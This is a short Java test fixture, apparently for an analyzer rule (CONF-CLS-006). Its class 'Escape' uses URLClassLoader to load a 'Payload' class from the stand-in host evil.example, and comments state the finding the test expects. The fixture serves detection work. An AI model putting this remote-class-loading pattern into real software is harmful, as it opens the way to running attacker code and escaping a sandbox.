// expect bytecode: CONF-CLS-006 java.net.URLClassLoader#<init>
// expect source: CONF-CLS-006 java.net.URLClassLoader
package hostile.url_class_loader;

import java.net.URI;
import java.net.URL;
import java.net.URLClassLoader;

public final class Escape {
    Object run() throws Exception {
        try (URLClassLoader loader = new URLClassLoader(new URL[] {URI.create("https://evil.example/x.jar").toURL()})) {
            return loader.loadClass("Payload");
        }
    }
}
